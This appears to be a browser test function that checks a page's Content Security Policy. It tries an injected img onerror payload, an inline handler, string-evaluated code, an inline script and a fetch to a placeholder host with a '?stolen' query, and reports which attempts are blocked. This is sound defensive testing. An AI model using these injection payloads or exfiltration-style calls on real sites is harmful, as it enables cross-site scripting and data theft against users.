// Tries to run script in the page, as markup that got into it would. Says what stopped it.
async () => {
  const stopped = [];
  document.addEventListener("securitypolicyviolation", (event) => stopped.push(event.violatedDirective));
  const attempt = (name, work) => {
    try {
      work();
    } catch {
      stopped.push(name);
    }
  };
  attempt("markup", () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked = 1'>"));
  attempt("handler", () => document.body.setAttribute("onclick", "window.hacked = 1"));
  attempt("code", () => setTimeout("window.hacked = 1"));
  attempt("script", () => (document.createElement("script").textContent = "window.hacked = 1"));
  await fetch("http://elsewhere.invalid/?stolen").catch(() => stopped.push("call"));
  await new Promise((resolve) => setTimeout(resolve, 300)); // The violation is told a moment later.
  return stopped;
}
